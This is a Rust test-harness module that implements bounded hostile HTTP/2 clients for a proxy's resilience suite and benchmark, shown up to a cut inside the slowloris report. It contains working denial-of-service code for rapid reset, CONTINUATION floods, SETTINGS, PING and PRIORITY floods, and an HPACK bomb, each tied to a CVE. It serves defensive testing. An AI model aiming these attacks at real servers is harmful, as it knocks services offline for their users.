//! Hostile HTTP/2 peers, shared by ringway's hostile-peer suite (`tests/hostile.rs`) and the
//! hostile-peer benchmark (`bench/hostile`): attack clients and hostile targets on raw sockets,
//! built from [`rawh2`](crate::rawh2)'s frame helpers.
//!
//! Every attack is bounded — in frames (or streams, blocks, connections), in sending time, and
//! in how long it then listens — and returns what it observed: the frames it received by type,
//! the GOAWAY (code and debug text), resets by code, response statuses, whether and when the
//! peer closed the connection, and the bytes written and read. Nothing here asserts: the
//! suite and the benchmark judge the [`Report`]s.
//!
//! | attack | what it sends | family |
//! |---|---|---|
//! | [`settings_flood`] | empty SETTINGS as fast as it can, never reading | CVE-2019-9515 |
//! | [`ping_flood`] | PING as fast as it can, never reading | CVE-2019-9512 |
//! | [`rapid_reset`] | HEADERS then RST_STREAM, stream after stream | CVE-2023-44487 |
//! | [`rst_stream_flood`] | RST_STREAM again and again on a finished stream | CVE-2019-9514 |
//! | [`empty_data_flood`] | zero-length DATA without END_STREAM on an open stream | CVE-2019-9518 |
//! | [`empty_continuation_flood`] | zero-length CONTINUATION after HEADERS without END_HEADERS | CVE-2019-9518, CVE-2024-27316 |
//! | [`continuation_flood`] | a header block that never ends, 16 KiB per CONTINUATION | CVE-2024-27316 |
//! | [`priority_flood`] | PRIORITY frames on ever new stream ids | CVE-2019-9513 |
//! | [`window_update_flood`] | WINDOW_UPDATE of 1 on the connection, never reading; then a call | — |
//! | [`hpack_bomb`] | one 4 KiB dynamic-table entry, then blocks of 1-byte references to it | CVE-2016-6581 |
//! | [`stream_id_exhaustion`] | a call on stream 2^31-1, then that id again | RFC 9113 §5.1.1 |
//! | [`slowloris`] | connections that send the preface a byte at a time, or nothing | — |
//! | [`invalid_frames`] | malformed requests (no `:path`), one stream after another | — |
//! | [`slow_reader`] | 2^31-1 windows, streams asking for ~64 MiB each, then never reading | CVE-2019-9517 |
//! | [`unread_responses`] | call after call, never reading a response | CVE-2019-9517 |
//! | [`abandoned_calls`] | hundreds of calls in one write, then the connection closed | CVE-2023-44487 (relayed) |
//! | [`stalled_client`] | SETTINGS_INITIAL_WINDOW_SIZE 0 and streams never given a window | CVE-2019-9517 |
//! | [`idle_connections`] | handshaken connections held open, idle | — |
//! | [`HostileTarget`] | an upstream that ignores flow control, or floods SETTINGS and PING | CVE-2019-9517, -9512, -9515 |
//!
//! Beside the attacks: [`Bystander`], the well-behaved client whose calls must keep working
//! while an attack runs, and [`RssWatch`], which samples a process's resident memory.

use std::collections::{HashMap, HashSet};
use std::io;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use prost::Message;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::net::{TcpListener, TcpSocket, TcpStream};
use tokio::task::JoinHandle;

use crate::client::{connect, routed};
use crate::echo::pattern;
use crate::echo::pb::{EchoReply, EchoRequest};
use crate::rawh2::{
    error_name, grpc_frame, grpc_request_headers, hpack_literal, Frame, GoAway, HpackDecoder,
    CANCEL, CONTINUATION, DATA, FLAG_ACK, FLAG_END_HEADERS, FLAG_END_STREAM, GOAWAY, HEADERS, PING,
    PREFACE, RST_STREAM, SETTINGS, SETTINGS_INITIAL_WINDOW_SIZE, WINDOW_UPDATE,
};

/// The echo service's unary method.
pub const UNARY: &str = "/echo.Echo/Unary";
/// The echo service's server-streaming method: `reply_count` replies, each echoing `payload`.
pub const SERVER_STREAM: &str = "/echo.Echo/ServerStream";
/// The largest frame payload anyone here sends: the spec's default SETTINGS_MAX_FRAME_SIZE.
pub const MAX_FRAME: usize = 16_384;
/// HTTP/2's largest window (RFC 9113 §6.9.1).
pub const MAX_WINDOW: u32 = 0x7fff_ffff;
/// How long connecting and the HTTP/2 handshake may take.
const HANDSHAKE: Duration = Duration::from_secs(5);
/// The stream id of the first stream a client opens.
const FIRST_STREAM: u32 = 1;

// ---------------------------------------------------------------------------------------------
// What an attack is given

/// How much an attack may send and how long it listens afterwards.
#[derive(Debug, Clone, Copy)]
pub struct Limits {
    /// Most units sent: frames for frame floods, streams for stream floods, blocks for the
    /// HPACK bomb.
    pub count: u64,
    /// Longest the attack sends for.
    pub duration: Duration,
    /// After sending: how long it reads what the peer says, until the peer closes.
    pub observe: Duration,
}

impl Limits {
    /// `count` units within `duration`, then up to 5 s of listening.
    pub fn new(count: u64, duration: Duration) -> Limits {
        Limits {
            count,
            duration,
            observe: Duration::from_secs(5),
        }
    }

    pub fn observe(self, observe: Duration) -> Limits {
        Limits { observe, ..self }
    }
}

/// The gRPC call an attack's streams carry: where it goes and the encoded request message.
#[derive(Debug, Clone)]
pub struct Call {
    pub authority: String,
    pub path: String,
    /// The routing header's value (`jobid`).
    pub jobid: String,
    /// One encoded request message (framed with the 5-byte prefix when sent).
    pub message: Vec<u8>,
}

impl Call {
    /// A unary echo call of a 64-byte payload, answered after `delay_ms`.
    pub fn unary(jobid: &str, delay_ms: u32) -> Call {
        Call {
            authority: "ringway.test".into(),
            path: UNARY.into(),
            jobid: jobid.into(),
            message: EchoRequest {
                payload: pattern(64, 7),
                delay_ms,
                ..Default::default()
            }
            .encode_to_vec(),
        }
    }

    /// A server-streaming call: `replies` replies of `payload` bytes each.
    pub fn server_stream(jobid: &str, payload: usize, replies: u32) -> Call {
        Call {
            authority: "ringway.test".into(),
            path: SERVER_STREAM.into(),
            jobid: jobid.into(),
            message: EchoRequest {
                payload: pattern(payload, 9),
                reply_count: replies,
                ..Default::default()
            }
            .encode_to_vec(),
        }
    }

    /// The request's header block: HPACK literals, no indexing.
    pub fn header_block(&self) -> Vec<u8> {
        hpack_literal(&grpc_request_headers(
            &self.authority,
            &self.path,
            &self.jobid,
        ))
    }

    /// The whole request on `stream`: HEADERS, then the message in DATA frames of at most
    /// [`MAX_FRAME`] bytes, the last one with END_STREAM.
    pub fn request(&self, stream: u32) -> Vec<u8> {
        let mut out = Frame::new(HEADERS, FLAG_END_HEADERS, stream, self.header_block()).encode();
        let body = grpc_frame(&self.message);
        let mut chunks = body.chunks(MAX_FRAME).peekable();
        while let Some(chunk) = chunks.next() {
            let last = chunks.peek().is_none();
            out.extend(Frame::data(stream, chunk, last).encode());
        }
        out
    }
}

// ---------------------------------------------------------------------------------------------
// What an attack observed

/// Everything an attacker read from its peer, by frame.
#[derive(Debug, Clone, Default)]
pub struct Seen {
    /// Frames received, by frame type (index 0..=9; index 10 counts unknown types).
    pub frames: [u64; 11],
    pub bytes_read: u64,
    /// DATA payload bytes, padding included.
    pub data_bytes: u64,
    /// The peer's first SETTINGS (its `(id, value)` pairs).
    pub server_settings: Option<Vec<(u16, u32)>>,
    /// Every GOAWAY received (at most 8 kept).
    pub goaways: Vec<GoAway>,
    /// RST_STREAM frames received, by error code.
    pub resets: HashMap<u32, u64>,
    /// Response heads by `:status`.
    pub statuses: HashMap<String, u64>,
    /// `grpc-status` values, from trailers and trailers-only heads.
    pub grpc_statuses: HashMap<String, u64>,
    /// Streams that ended (END_STREAM or RST_STREAM).
    pub ended: HashSet<u32>,
    /// WINDOW_UPDATE increments received, by stream (0: the connection).
    pub window_increments: HashMap<u32, u64>,
    /// A header block that did not decode.
    pub hpack_error: Option<String>,
    /// Since the attacker connected: when the peer closed (end of file or reset).
    pub closed_at: Option<Duration>,
    /// The close was a reset (ECONNRESET) rather than a FIN.
    pub reset_by_peer: bool,
    pub read_error: Option<String>,
}

impl Seen {
    /// The first GOAWAY with an error code, else the first GOAWAY.
    pub fn goaway(&self) -> Option<&GoAway> {
        self.goaways
            .iter()
            .find(|g| g.code != 0)
            .or(self.goaways.first())
    }

    pub fn count(&self, kind: u8) -> u64 {
        self.frames[usize::from(kind.min(10))]
    }

    /// RST_STREAM frames received with `code`.
    pub fn resets_with(&self, code: u32) -> u64 {
        self.resets.get(&code).copied().unwrap_or(0)
    }

    /// Response heads received with `:status` `status`.
    pub fn status_count(&self, status: &str) -> u64 {
        self.statuses.get(status).copied().unwrap_or(0)
    }
}

/// Turns the bytes an attacker reads into [`Seen`]: frame by frame across any split, DATA
/// payloads skipped rather than kept, header blocks decoded (HPACK state is per connection).
#[derive(Debug, Default)]
struct FrameReader {
    header: Vec<u8>,
    /// The frame being read (type, flags, stream, payload length) and its payload so far.
    current: Option<(u8, u8, u32, usize)>,
    payload: Vec<u8>,
    /// DATA payload bytes still to skip.
    skip: usize,
    /// A header block awaiting CONTINUATION: stream, fragments, END_STREAM.
    block: Option<(u32, Vec<u8>, bool)>,
    hpack: HpackDecoder,
    /// Streams whose response head arrived (the next block on them is trailers).
    headed: HashSet<u32>,
}

impl FrameReader {
    fn feed(&mut self, mut bytes: &[u8], seen: &mut Seen) {
        seen.bytes_read += bytes.len() as u64;
        while !bytes.is_empty() {
            if self.skip > 0 {
                let n = self.skip.min(bytes.len());
                self.skip -= n;
                bytes = &bytes[n..];
                continue;
            }
            if let Some((kind, flags, stream, len)) = self.current {
                let n = (len - self.payload.len()).min(bytes.len());
                self.payload.extend_from_slice(&bytes[..n]);
                bytes = &bytes[n..];
                if self.payload.len() == len {
                    self.current = None;
                    let payload = std::mem::take(&mut self.payload);
                    self.frame(Frame::new(kind, flags, stream, payload), seen);
                }
                continue;
            }
            let n = (9 - self.header.len()).min(bytes.len());
            self.header.extend_from_slice(&bytes[..n]);
            bytes = &bytes[n..];
            if self.header.len() < 9 {
                continue;
            }
            let h = std::mem::take(&mut self.header);
            let len = u32::from_be_bytes([0, h[0], h[1], h[2]]) as usize;
            let (kind, flags) = (h[3], h[4]);
            let stream = u32::from_be_bytes([h[5], h[6], h[7], h[8]]) & MAX_WINDOW;
            if kind == DATA {
                seen.frames[usize::from(DATA)] += 1;
                seen.data_bytes += len as u64;
                if flags & FLAG_END_STREAM != 0 {
                    seen.ended.insert(stream);
                }
                self.skip = len;
            } else if len == 0 {
                self.frame(Frame::new(kind, flags, stream, Vec::new()), seen);
            } else {
                self.current = Some((kind, flags, stream, len));
            }
        }
    }

    fn frame(&mut self, frame: Frame, seen: &mut Seen) {
        seen.frames[usize::from(frame.kind.min(10))] += 1;
        match frame.kind {
            SETTINGS if !frame.is_ack() && seen.server_settings.is_none() => {
                seen.server_settings = Some(frame.settings_values());
            }
            HEADERS => {
                let fragment = frame.header_fragment().unwrap_or_default().to_vec();
                self.block = Some((frame.stream, fragment, frame.ends_stream()));
                if frame.end_headers() {
                    self.block_done(seen);
                }
            }
            CONTINUATION => {
                if let Some((_, block, _)) = self.block.as_mut() {
                    block.extend_from_slice(&frame.payload);
                }
                if frame.end_headers() {
                    self.block_done(seen);
                }
            }
            RST_STREAM => {
                *seen
                    .resets
                    .entry(frame.rst_code().unwrap_or(u32::MAX))
                    .or_default() += 1;
                seen.ended.insert(frame.stream);
            }
            GOAWAY => {
                if let Some(goaway) = frame.as_goaway() {
                    if seen.goaways.len() < 8 {
                        seen.goaways.push(goaway);
                    }
                }
            }
            WINDOW_UPDATE => {
                *seen.window_increments.entry(frame.stream).or_default() +=
                    u64::from(frame.window_increment().unwrap_or(0));
            }
            _ => {}
        }
    }

    fn block_done(&mut self, seen: &mut Seen) {
        let Some((stream, block, end)) = self.block.take() else {
            return;
        };
        if end {
            seen.ended.insert(stream);
        }
        match self.hpack.decode(&block) {
            Ok(fields) => {
                for (name, value) in &fields {
                    if name == ":status" && self.headed.insert(stream) {
                        *seen.statuses.entry(value.clone()).or_default() += 1;
                    }
                    if name == "grpc-status" {
                        *seen.grpc_statuses.entry(value.clone()).or_default() += 1;
                    }
                }
            }
            Err(e) => {
                seen.hpack_error.get_or_insert(e);
            }
        }
    }
}

/// What one attack did and saw.
#[derive(Debug, Clone, Default)]
pub struct Report {
    pub attack: String,
    /// Units sent (see [`Limits::count`]).
    pub sent: u64,
    pub bytes_written: u64,
    /// How long the sending phase lasted.
    pub sending: Duration,
    /// A write failed (the peer closed or reset the connection).
    pub write_error: Option<String>,
    /// A write made no progress until the sending deadline: the peer stopped reading.
    pub write_blocked_after: Option<Duration>,
    pub seen: Seen,
    /// For attacks that end with a call of their own: whether it succeeded.
    pub call_ok: Option<bool>,
    /// Anything else the attack wants said (one line).
    pub note: String,
}

impl Report {
    /// The code of [`Seen::goaway`].
    pub fn goaway_code(&self) -> Option<u32> {
        self.seen.goaway().map(|g| g.code)
    }

    /// The peer closed the connection: end of file, a reset, or a write that failed.
    pub fn closed(&self) -> bool {
        self.seen.closed_at.is_some() || self.write_error.is_some()
    }

    /// One line: what was sent and what came back.
    pub fn summary(&self) -> String {
        let goaway = match self.seen.goaway() {
            Some(g) => format!(
                "GOAWAY {} {:?}",
                error_name(g.code),
                String::from_utf8_lossy(&g.debug)
            ),
            None => "no GOAWAY".into(),
        };
        let closed = match (self.seen.closed_at, &self.write_error) {
            (Some(at), _) => format!(
                "closed by peer after {:.2} s{}",
                at.as_secs_f64(),
                if self.seen.reset_by_peer {
                    " (reset)"
                } else {
                    ""
                }
            ),
            (None, Some(e)) => format!("write failed ({e})"),
            (None, None) => "still open".into(),
        };
        let mut resets: Vec<String> = self
            .seen
            .resets
            .iter()
            .map(|(code, n)| format!("{}×{n}", error_name(*code)))
            .collect();
        resets.sort();
        let mut line = format!(
            "{}: sent {} in {:.2} s ({} B written, {} B read); {goaway}; {closed}",
            self.attack,
            self.sent,
            self.sending.as_secs_f64(),
            self.bytes_written,
            self.seen.bytes_read
        );
        if let Some(after) = self.write_blocked_after {
            line += &format!("; writes blocked after {:.2} s", after.as_secs_f64());
        }
        if !resets.is_empty() {
            line += &format!("; RST_STREAM {}", resets.join(" "));
        }
        if !self.seen.statuses.is_empty() {
            line += &format!("; :status {:?}", self.seen.statuses);
        }
        if let Some(ok) = self.call_ok {
            line += &format!("; own call {}", if ok { "succeeded" } else { "failed" });
        }
        if !self.note.is_empty() {
            line += "; ";
            line += &self.note;
        }
        line
    }
}

// ---------------------------------------------------------------------------------------------
// The attacking connection

/// How an attacker connects.
#[derive(Debug, Clone, Default)]
pub struct Connect {
    /// The client's SETTINGS.
    pub settings: Vec<(u16, u32)>,
    /// Raise the connection window ringway may send into to this size (WINDOW_UPDATE on
    /// stream 0 right after the preface).
    pub connection_window: Option<u32>,
    /// SO_RCVBUF for the attacker's socket (a small one makes a peer's output back up sooner).
    pub recv_buffer: Option<u32>,
}

struct ReadState {
    reader: FrameReader,
    seen: Seen,
}

/// One attacking connection: a writer the attack drives and, once reading starts, a task
/// that records everything the peer sends.
pub struct Attacker {
    connected: Instant,
    writer: OwnedWriteHalf,
    reader: Option<OwnedReadHalf>,
    reading: Option<JoinHandle<()>>,
    state: Arc<Mutex<ReadState>>,
    report: Report,
    next_stream: u32,
}

impl Attacker {
    /// Connects and completes the client handshake: preface, SETTINGS (and connection window)
    /// out; the server's SETTINGS in, acknowledged.
    pub async fn connect(addr: SocketAddr, how: &Connect) -> io::Result<Attacker> {
        let socket = if addr.is_ipv4() {
            TcpSocket::new_v4()?
        } else {
            TcpSocket::new_v6()?
        };
        if let Some(size) = how.recv_buffer {
            socket.set_recv_buffer_size(size)?;
        }
        let mut stream = tokio::time::timeout(HANDSHAKE, socket.connect(addr))
            .await
            .map_err(|_| io::Error::new(io::ErrorKind::TimedOut, "connect timed out"))??;
        stream.set_nodelay(true)?;
        let connected = Instant::now();
        let mut hello = PREFACE.to_vec();
        hello.extend(Frame::settings_with(&how.settings).encode());
        if let Some(window) = how.connection_window {
            if window > 65_535 {
                hello.extend(Frame::window_update(0, window - 65_535).encode());
            }
        }
        stream.write_all(&hello).await?;
        let mut state = ReadState {
            reader: FrameReader::default(),
            seen: Seen::default(),
        };
        let deadline = Instant::now() + HANDSHAKE;
        let mut buf = vec![0u8; 16 << 10];
        while state.seen.server_settings.is_none() {
            let left = deadline.saturating_duration_since(Instant::now());
            let n = match tokio::time::timeout(left, stream.read(&mut buf)).await {
                Ok(result) => result?,
                Err(_) => {
                    return Err(io::Error::new(
                        io::ErrorKind::TimedOut,
                        "no SETTINGS from the server",
                    ))
                }
            };
            if n == 0 {
                return Err(io::Error::new(
                    io::ErrorKind::UnexpectedEof,
                    "closed during the handshake",
                ));
            }
            state.reader.feed(&buf[..n], &mut state.seen);
        }
        stream.write_all(&Frame::settings_ack().encode()).await?;
        let written = hello.len() as u64 + 9;
        let (reader, writer) = stream.into_split();
        Ok(Attacker {
            connected,
            writer,
            reader: Some(reader),
            reading: None,
            state: Arc::new(Mutex::new(state)),
            report: Report {
                bytes_written: written,
                ..Default::default()
            },
            next_stream: FIRST_STREAM,
        })
    }

    /// From now on, everything the peer sends is read and recorded.
    pub fn start_reading(&mut self) {
        let Some(mut reader) = self.reader.take() else {
            return;
        };
        let state = self.state.clone();
        let connected = self.connected;
        self.reading = Some(tokio::spawn(async move {
            let mut buf = vec![0u8; 64 << 10];
            loop {
                let result = reader.read(&mut buf).await;
                let mut s = state.lock().unwrap();
                match result {
                    Ok(0) => {
                        s.seen.closed_at = Some(connected.elapsed());
                        return;
                    }
                    Ok(n) => {
                        let ReadState { reader, seen } = &mut *s;
                        reader.feed(&buf[..n], seen);
                    }
                    Err(e) => {
                        s.seen.closed_at = Some(connected.elapsed());
                        s.seen.reset_by_peer = e.kind() == io::ErrorKind::ConnectionReset;
                        s.seen.read_error = Some(e.to_string());
                        return;
                    }
                }
            }
        }));
    }

    /// A fresh client stream id.
    pub fn next_stream(&mut self) -> u32 {
        let id = self.next_stream;
        self.next_stream = self.next_stream.saturating_add(2).min(MAX_WINDOW);
        id
    }

    /// A copy of what was read so far.
    pub fn seen(&self) -> Seen {
        self.state.lock().unwrap().seen.clone()
    }

    /// The peer closed (as far as reading or writing has found out).
    pub fn peer_gone(&self) -> bool {
        self.report.write_error.is_some() || self.state.lock().unwrap().seen.closed_at.is_some()
    }

    /// Writes `bytes` (`units` of the attack) unless `deadline` passes first; `false` when the
    /// attack cannot go on (the write failed, or made no progress until the deadline).
    pub async fn send(&mut self, bytes: &[u8], units: u64, deadline: Instant) -> bool {
        match tokio::time::timeout_at(deadline.into(), self.writer.write_all(bytes)).await {
            Ok(Ok(())) => {
                self.report.bytes_written += bytes.len() as u64;
                self.report.sent += units;
                true
            }
            Ok(Err(e)) => {
                self.report.write_error = Some(e.to_string());
                false
            }
            Err(_) => {
                self.report.write_blocked_after = Some(self.connected.elapsed());
                false
            }
        }
    }

    /// Sends batches from `batch(units still allowed)` — each `(bytes, units)` — until
    /// `limits.count` units, `limits.duration`, or the peer is gone.
    pub async fn flood(&mut self, limits: &Limits, mut batch: impl FnMut(u64) -> (Vec<u8>, u64)) {
        let started = Instant::now();
        let deadline = started + limits.duration;
        while self.report.sent < limits.count && Instant::now() < deadline && !self.peer_gone() {
            let (bytes, units) = batch(limits.count - self.report.sent);
            if units == 0 || !self.send(&bytes, units, deadline).await {
                break;
            }
        }
        self.report.sending += started.elapsed();
    }

    /// Waits up to `limit` for `stream` to end (END_STREAM or RST_STREAM) or the peer to close;
    /// whether the stream ended.
    pub async fn wait_stream(&self, stream: u32, limit: Duration) -> bool {
        let deadline = Instant::now() + limit;
        loop {
            {
                let s = self.state.lock().unwrap();
                if s.seen.ended.contains(&stream) {
                    return true;
                }
                if s.seen.closed_at.is_some() {
                    return false;
                }
            }
            if Instant::now() >= deadline {
                return false;
            }
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
    }

    /// Waits up to `limit` for every stream in `streams` to end, or the peer to close.
    pub async fn wait_streams(&self, streams: &[u32], limit: Duration) {
        let deadline = Instant::now() + limit;
        loop {
            {
                let s = self.state.lock().unwrap();
                if s.seen.closed_at.is_some() || streams.iter().all(|id| s.seen.ended.contains(id))
                {
                    return;
                }
            }
            if Instant::now() >= deadline {
                return;
            }
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    }

    /// Reads (starting now if it had not) until the peer closes or `observe` passes, then
    /// closes our side; the report.
    pub async fn finish(mut self, attack: &str, observe: Duration) -> Report {
        self.start_reading();
        let deadline = Instant::now() + observe;
        while Instant::now() < deadline {
            if self.state.lock().unwrap().seen.closed_at.is_some() {
                break;
            }
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        if let Some(task) = self.reading.take() {
            task.abort();
        }
        let mut report = std::mem::take(&mut self.report);
        report.attack = attack.into();
        report.seen = self.seen();
        report
    }

    pub fn note(&mut self, note: impl Into<String>) {
        self.report.note = note.into();
    }
}

/// `frame` repeated as often as fits in about 64 KiB, but at most `max` times: (bytes, count).
fn repeated(frame: &[u8], max: u64) -> (Vec<u8>, u64) {
    let n = ((64 << 10) / frame.len()).max(1).min(max as usize);
    (frame.repeat(n), n as u64)
}

// ---------------------------------------------------------------------------------------------
// The attacks

/// Empty SETTINGS frames as fast as the socket takes them, never reading: every one asks for
/// an ACK the attacker will not read (CVE-2019-9515).
pub async fn settings_flood(addr: SocketAddr, limits: Limits) -> io::Result<Report> {
    let mut a = Attacker::connect(addr, &Connect::default()).await?;
    let frame = Frame::settings().encode();
    a.flood(&limits, |max| repeated(&frame, max)).await;
    Ok(a.finish("settings flood", limits.observe).await)
}

/// PING frames as fast as the socket takes them, never reading: every one asks for an ACK
/// (CVE-2019-9512).
pub async fn ping_flood(addr: SocketAddr, limits: Limits) -> io::Result<Report> {
    let mut a = Attacker::connect(addr, &Connect::default()).await?;
    let frame = Frame::ping(*b"flooding").encode();
    a.flood(&limits, |max| repeated(&frame, max)).await;
    Ok(a.finish("ping flood", limits.observe).await)
}

/// Rapid reset (CVE-2023-44487): HEADERS opening a call, RST_STREAM(CANCEL) right behind it,
/// stream after stream, reading what comes back. `limits.count` is in streams.
pub async fn rapid_reset(addr: SocketAddr, call: &Call, limits: Limits) -> io::Result<Report> {
    let mut a = Attacker::connect(addr, &Connect::default()).await?;
    a.start_reading();
    let block = call.header_block();
    let mut next = FIRST_STREAM;
    a.flood(&limits, |max| {
        let n = max.min(64);
        let mut bytes = Vec::new();
        for _ in 0..n {
            bytes.extend(Frame::new(HEADERS, FLAG_END_HEADERS, next, block.clone()).encode());
            bytes.extend(Frame::rst_stream(next, CANCEL).encode());
            next = next.saturating_add(2).min(MAX_WINDOW);
        }
        (bytes, n)
    })
    .await;
    Ok(a.finish("rapid reset", limits.observe).await)
}

/// One whole call, then RST_STREAM(CANCEL) on its finished stream over and over: frames that
/// do no work.
pub async fn rst_stream_flood(addr: SocketAddr, call: &Call, limits: Limits) -> io::Result<Report> {
    let mut a = Attacker::connect(addr, &Connect::default()).await?;
    a.start_reading();
    let stream = a.next_stream();
    let deadline = Instant::now() + HANDSHAKE;
    a.send(&call.request(stream), 0, deadline).await;
    let ended = a.wait_stream(stream, HANDSHAKE).await;
    a.note(format!(
        "the call on stream {stream} {} before the flood",
        if ended { "ended" } else { "had not ended" }
    ));
    let frame = Frame::rst_stream(stream, CANCEL).encode();
    a.flood(&limits, |max| repeated(&frame, max)).await;
    Ok(a.finish("RST_STREAM flood", limits.observe).await)
}

/// A call's HEADERS without END_STREAM, then DATA frames with no payload and no END_STREAM on
/// that stream (CVE-2019-9518).
pub async fn empty_data_flood(addr: SocketAddr, call: &Call, limits: Limits) -> io::Result<Report> {
    let mut a = Attacker::connect(addr, &Connect::default()).await?;
    a.start_reading();
    let stream = a.next_stream();
    let head = Frame::new(HEADERS, FLAG_END_HEADERS, stream, call.header_block()).encode();
    a.send(&head, 0, Instant::now() + HANDSHAKE).await;
    let frame = Frame::data(stream, &[], false).encode();
    a.flood(&limits, |max| repeated(&frame, max)).await;
    Ok(a.finish("empty DATA flood", limits.observe).await)
}

/// HEADERS without END_HEADERS, then CONTINUATION frames with no payload, never ending the
/// block (CVE-2019-9518, CVE-2024-27316).
pub async fn empty_continuation_flood(
    addr: SocketAddr,
    call: &Call,
    limits: Limits,
) -> io::Result<Report> {
    let mut a = Attacker::connect(addr, &Connect::default()).await?;
    a.start_reading();
    let stream = a.next_stream();
    let block = call.header_block();
    let head = Frame::new(HEADERS, 0, stream, &block[..block.len() / 2]).encode();
    a.send(&head, 0, Instant::now() + HANDSHAKE).await;
    let frame = Frame::continuation(stream, &[], false).encode();
    a.flood(&limits, |max| repeated(&frame, max)).await;
    Ok(a.finish("empty CONTINUATION flood", limits.observe).await)
}

/// HEADERS without END_HEADERS, then full CONTINUATION frames (16 KiB, one literal field
/// each) that never end the block: a header block as large as the attacker likes
/// (CVE-2024-27316). `limits.count` is in CONTINUATION frames.
pub async fn continuation_flood(
    addr: SocketAddr,
    call: &Call,
    limits: Limits,
) -> io::Result<Report> {
    let mut a = Attacker::connect(addr, &Connect::default()).await?;
    a.start_reading();
    let stream = a.next_stream();
    let head = Frame::new(HEADERS, 0, stream, call.header_block()).encode();
    a.send(&head, 0, Instant::now() + HANDSHAKE).await;
    let value = "c".repeat(MAX_FRAME - 32);
    let frame = Frame::continuation(stream, &hpack_literal(&[("x-flood", &value)]), false).encode();
    a.flood(&limits, |max| repeated(&frame, max)).await;
    Ok(a.finish("CONTINUATION flood", limits.observe).await)
}

/// PRIORITY frames on ever new (idle) stream ids, which RFC 9113 allows and which do no work
/// (CVE-2019-9513).
pub async fn priority_flood(addr: SocketAddr, limits: Limits) -> io::Result<Report> {
    let mut a = Attacker::connect(addr, &Connect::default()).await?;
    a.start_reading();
    let mut id = 3u32;
    a.flood(&limits, |max| {
        let n = max.min(4096);
        let mut bytes = Vec::with_capacity(14 * n as usize);
        for _ in 0..n {
            bytes.extend(Frame::priority(id, 1, false, 15).encode());
            id = if id >= MAX_WINDOW - 2 { 3 } else { id + 2 };
        }
        (bytes, n)
    })
    .await;
    Ok(a.finish("PRIORITY flood", limits.observe).await)
}

/// WINDOW_UPDATE frames of 1 on the connection as fast as the socket takes them, never reading
/// (they need no answer); then one call on the same connection, whose outcome is
/// [`Report::call_ok`]. The increments stay below the 2^31-1 window limit.
pub async fn window_update_flood(
    addr: SocketAddr,
    call: &Call,
    limits: Limits,
) -> io::Result<Report> {
    let mut a = Attacker::connect(addr, &Connect::default()).await?;
    let frame = Frame::window_update(0, 1).encode();
    let limits = Limits {
        count: limits.count.min(u64::from(MAX_WINDOW) - 65_535),
        ..limits
    };
    a.flood(&limits, |max| repeated(&frame, max)).await;
    a.start_reading();
    let stream = a.next_stream();
    if !a.peer_gone()
        && a.send(&call.request(stream), 0, Instant::now() + HANDSHAKE)
            .await
    {
        a.wait_stream(stream, limits.observe).await;
        let seen = a.seen();
        a.report.call_ok = Some(
            seen.ended.contains(&stream)
                && seen.grpc_statuses.get("0").is_some_and(|&n| n > 0)
                && seen.resets.is_empty(),
        );
    } else {
        a.report.call_ok = Some(false);
    }
    Ok(a.finish("WINDOW_UPDATE flood", Duration::from_millis(100))
        .await)
}

/// An HPACK bomb: the first call stores a 4,000-byte header in the peer's dynamic table (4,038
/// of its 4,096 bytes); then `limits.count` requests, each one HEADERS frame of 16,000 one-byte
/// references to that entry — 64 MB of header list per 16 KiB frame if decoded in full.
pub async fn hpack_bomb(addr: SocketAddr, call: &Call, limits: Limits) -> io::Result<Report> {
    let mut a = Attacker::connect(addr, &Connect::default()).await?;
    a.start_reading();
    // Literal with incremental indexing, new name (RFC 7541 §6.2.1).
    let value = "b".repeat(4000);
    let mut insert = call.header_block();
    insert.push(0x40);
    insert.push(6);
    insert.extend_from_slice(b"x-bomb");
    // The value's length as an HPACK integer with a 7-bit prefix (RFC 7541 §5.1).
    let mut len = value.len() - 127;
    insert.push(0x7f);
    while len >= 128 {
        insert.push((len % 128) as u8 | 0x80);
        len /= 128;
    }
    insert.push(len as u8);
    insert.extend_from_slice(value.as_bytes());
    let first = a.next_stream();
    let mut bytes = Frame::new(HEADERS, FLAG_END_HEADERS, first, insert).encode();
    bytes.extend(Frame::data(first, &grpc_frame(&call.message), true).encode());
    a.send(&bytes, 0, Instant::now() + HANDSHAKE).await;
    let stored = a.wait_stream(first, HANDSHAKE).await;
    // Indexed field 62: the newest dynamic-table entry (RFC 7541 §2.3.3).
    let bomb = vec![0x80 | 62; 16_000];
    let mut streams = Vec::new();
    let mut next = a.next_stream;
    a.flood(&limits, |max| {
        let n = max.min(4);
        let mut bytes = Vec::new();
        for _ in 0..n {
            let flags = FLAG_END_HEADERS | FLAG_END_STREAM;
            bytes.extend(Frame::new(HEADERS, flags, next, bomb.clone()).encode());
            streams.push(next);
            next += 2;
        }
        (bytes, n)
    })
    .await;
    a.next_stream = next;
    a.wait_streams(&streams, limits.observe).await;
    let seen = a.seen();
    let unanswered = streams.iter().filter(|s| !seen.ended.contains(s)).count();
    a.note(format!(
        "the entry's call {}; {unanswered} of {} bomb streams not ended",
        if stored { "ended" } else { "had not ended" },
        streams.len()
    ));
    Ok(a.finish("HPACK bomb", Duration::from_millis(500)).await)
}

/// A call on the last stream id a client may use (2^31-1), then HEADERS on that id again:
/// nothing is left to open, and reusing an id is a PROTOCOL_ERROR (RFC 9113 §5.1.1).
pub async fn stream_id_exhaustion(
    addr: SocketAddr,
    call: &Call,
    limits: Limits,
) -> io::Result<Report> {
    let mut a = Attacker::connect(addr, &Connect::default()).await?;
    a.start_reading();
    let started = Instant::now();
    let last = MAX_WINDOW;
    a.send(&call.request(last), 1, started + HANDSHAKE).await;
    a.wait_stream(last, HANDSHAKE).await;
    let seen = a.seen();
    a.report.call_ok =
        Some(seen.ended.contains(&last) && seen.grpc_statuses.get("0").is_some_and(|&n| n > 0));
    a.send(&call.request(last), 1, started + HANDSHAKE).await;
    a.report.sending = started.elapsed();
    Ok(a.finish("stream id exhaustion", limits.observe).await)
}

/// What [`slowloris`] saw.
#[derive(Debug, Clone, Default)]
pub struct SlowlorisReport {
    pub connections: usize,
    pub connect_failed: usize,
    /// Connections the peer closed while the attack held them.
    pub closed_by_peer: usize,
    /// Connections still open when the attack ended.
    pub still_open: usize,
